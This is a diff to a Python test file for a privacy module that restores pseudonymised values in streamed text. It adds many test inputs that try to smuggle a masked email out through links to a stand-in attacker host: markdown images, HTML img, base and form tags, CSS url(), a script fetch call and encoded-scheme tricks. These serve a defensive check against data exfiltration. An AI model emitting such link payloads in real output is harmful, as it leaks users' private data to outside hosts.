@@ -7,6 +7,7 @@ import pytest
 from steward.privacy.entities import STRUCTURED
 from steward.privacy.pseudonyms import Pseudonyms, mask
 from steward.privacy.scan import scan_text
+from steward.privacy.url_context import UrlContext
 
 TOKEN = "EMAIL_7F3K2Q9ABC"
 PSEUDONYMS = Pseudonyms({TOKEN: "bob@example.com"})
@@ -14,10 +15,10 @@ PSEUDONYMS = Pseudonyms({TOKEN: "bob@example.com"})
 
 def restore(text: str, size: int) -> str:
     """In pieces of `size` characters, as a stream brings them."""
-    out, held = "", ""
+    out, held, context = "", "", UrlContext()
     for start in range(0, len(text), size):
         last = start + size >= len(text)
-        piece, held = PSEUDONYMS.feed(held + text[start : start + size], last, out)
+        piece, held = PSEUDONYMS.feed(held + text[start : start + size], last, context)
         out += piece
     return out
 
@@ -37,6 +38,28 @@ def restore(text: str, size: int) -> str:
         f"HTTPS:\\\\evil.example\\{TOKEN}",
         f"[x]: https://evil.example/?d={TOKEN.lower()}",
         f"https://{TOKEN}.evil.example/",
+        f'![x](https://evil.example/?d="{TOKEN}")',
+        f"https://evil.example/?d=`{TOKEN}",
+        f"![x](https://evil.example/?d=\u00a0{TOKEN})",
+        f"![x](https://evil.example/?d=<{TOKEN}>)",
+        f"![x](https&#58;\\/\\/evil.example\\/{TOKEN})",
+        f'<a href="http&colon;&sol;&sol;evil.example&sol;{TOKEN}">',
+        f'<img src="https://evil.example/?a=>{TOKEN}">',
+        f'<img src="https://evil.example/?a=\n\n{TOKEN}">',
+        f'<base href="//evil.example/"><img src="{TOKEN}">',
+        f'<base href="//evil.example/"> ![x]({TOKEN})',
+        f'<form action="//evil.example/"><input name=d value="{TOKEN}">',
+        f"<style>a{{background:url(https:\\2f\\2f evil.example\\2f {TOKEN})}}</style>",
+        f"<script>fetch('https://evil.example/?d=' + '{TOKEN}')</script>",
+        f"https://evil.example/?d={'a' * 5000}{TOKEN}",
+        f"![x](<https://evil.example/?d={'a b ' * 3000}{TOKEN}>)",
+        f'{{"url":"https\\u003a\\u002f\\u002fevil.example\\u002f?d={TOKEN}"}}',
+        f"[x](data:text/html,{TOKEN})",
+        f"evil.example:8080/?d={TOKEN}",
+        f"evil.xn--p1ai/{TOKEN}",
+        f"192.0.2.1/{TOKEN}",
+        f"http:evil.example&{TOKEN}",
+        f"[x](mailto:x@evil.example?body={TOKEN})",
     ],
 )
 def test_a_url_carries_no_value_out(text: str, size: int) -> None:
@@ -54,6 +77,16 @@ def test_a_url_carries_no_value_out(text: str, size: int) -> None:
         f"<b>{TOKEN}</b>",
         f"a < b, so {TOKEN}",
         f"Name: {TOKEN}, or",
+        f'{{"url":"https://a.example/","mail":"{TOKEN}"}}',
+        f"`https://a.example/` and `{TOKEN}`",
+        f"Bob <{TOKEN}>",
+        f"<mailto:{TOKEN}>",
+        f"[Bob](mailto:{TOKEN})",
+        f"<a href='mailto:{TOKEN}'>",
+        f"<contact email='{TOKEN}'/>",
+        f"<a href='https://a.example/'>x</a> {TOKEN}",
+        f"https://a.example/<br>{TOKEN}",
+        f"if x <y and z == '{TOKEN}'",
     ],
 )
 def test_elsewhere_it_is_restored(text: str, size: int) -> None:
